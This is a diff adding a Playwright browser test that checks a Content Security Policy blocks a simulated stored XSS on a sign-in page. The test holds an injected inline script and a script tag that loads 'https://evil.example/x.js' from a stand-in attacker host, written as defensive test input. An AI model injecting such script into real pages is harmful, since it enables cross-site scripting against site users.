@@ -56,3 +56,27 @@ def test_every_page_renders_under_the_policy(sign_in, server: str, shot) -> None
         shot(designer, path.strip("/").replace("/", "-"))
     for page in (leader, designer):
         assert page.evaluate("document.querySelector('style, link[rel=stylesheet]') !== null")
+
+
+def test_a_script_slipped_into_a_page_does_not_run(browser: object, server: str) -> None:
+    """What the policy is for: markup that got into a page (a stored XSS) cannot run inline code or
+    load code from elsewhere; Chromium reports it, which is how the other browser tests notice a
+    page that breaks the policy."""
+    page = browser.new_page()
+    reports: list[str] = []
+    page.on("console", lambda message: reports.append(message.text))
+    page.goto(f"{server}/signin")
+    page.evaluate(
+        """() => {
+            const inline = document.createElement('script');
+            inline.textContent = 'window.pwned = true';
+            document.body.append(inline);
+            const remote = document.createElement('script');
+            remote.src = 'https://evil.example/x.js';
+            document.body.append(remote);
+        }"""
+    )
+    page.wait_for_timeout(300)
+    assert page.evaluate("window.pwned === undefined")
+    assert sum("Content Security Policy" in r for r in reports) >= 2, reports
+    page.close()
